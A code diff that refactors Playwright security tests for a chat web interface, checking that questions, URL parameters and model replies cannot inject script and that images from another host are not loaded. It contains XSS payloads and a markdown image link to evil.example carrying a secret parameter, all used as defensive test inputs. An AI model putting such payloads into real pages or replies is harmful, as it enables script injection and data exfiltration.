@@ -46,7 +46,7 @@ def test_a_hostile_question_is_harmless_as_a_question_and_as_a_title(serve, visi
     chat = visit(serve())
     chat.ask_and_wait(payload)
     title = chat.page.locator(".chat-item.is-current .chat-item__title")
-    expect(title).to_have_text(payload[:20], use_inner_text=True) if len(payload) < 20 else expect(title).to_contain_text(payload[:20])
+    expect(title).to_contain_text(payload[:20])
     assert_harmless(chat)
     chat.reload()
     assert chat.questions.first.locator(".message__text").inner_text() == payload
@@ -79,7 +79,8 @@ def test_a_hostile_name_and_error_of_the_model_are_only_text(serve, visit):
 
 
 def test_an_address_cannot_bring_anything_into_the_page(serve, visit):
-    chat = visit(serve(), "/?q=<script>window.__pwned=1</script>&text=<img src=x onerror=window.__pwned=1>#<img src=x onerror=window.__pwned=1>")
+    image = "<img src=x onerror=window.__pwned=1>"
+    chat = visit(serve(), f"/?q=<script>window.__pwned=1</script>&text={image}#{image}")
     assert_harmless(chat)
     response = chat.page.goto(chat.server.url + "/c/%3Cscript%3Ewindow.__pwned=1%3C%2Fscript%3E")
     assert response.status == 404
@@ -88,7 +89,8 @@ def test_an_address_cannot_bring_anything_into_the_page(serve, visit):
 
 
 def test_a_picture_of_another_host_is_never_asked_for(serve, visit):
-    chat = visit(serve(ScriptedModel("Look: ![a cat](https://evil.example/p.png?secret=1) and\n\n[![b](http://evil.example/q.png)](http://evil.example/)\n\nDone.")))
+    chat = visit(serve(ScriptedModel("Look: ![a cat](https://evil.example/p.png?secret=1) and\n\n"
+                                     "[![b](http://evil.example/q.png)](http://evil.example/)\n\nDone.")))
     chat.ask_and_wait("Show me")
     chat.reload()
     expect(chat.answers.last).to_contain_text("Done.")
@@ -96,7 +98,8 @@ def test_a_picture_of_another_host_is_never_asked_for(serve, visit):
 
 
 def test_characters_split_over_tokens_are_never_shown_broken(serve, visit):
-    chat = visit(serve(ScriptedModel("A cat 🐈‍⬛, 你好，世界, and a family 👨‍👩‍👧.", seconds_per_token=0.01)))
+    said = "A cat 🐈‍⬛, 你好，世界, and a family 👨‍👩‍👧."
+    chat = visit(serve(ScriptedModel(said, seconds_per_token=0.01)))
     chat.page.evaluate("""() => {
         window.__broken = [];
         new MutationObserver(() => {
@@ -104,7 +107,7 @@ def test_characters_split_over_tokens_are_never_shown_broken(serve, visit):
             if (text.includes("\\ufffd")) window.__broken.push(text);
         }).observe(document.getElementById("messages"), {childList: true, characterData: true, subtree: true});
     }""")
-    assert chat.ask_and_wait("Greet") == "A cat 🐈‍⬛, 你好，世界, and a family 👨‍👩‍👧."
+    assert chat.ask_and_wait("Greet") == said
     assert chat.page.evaluate("window.__broken") == []
 
 
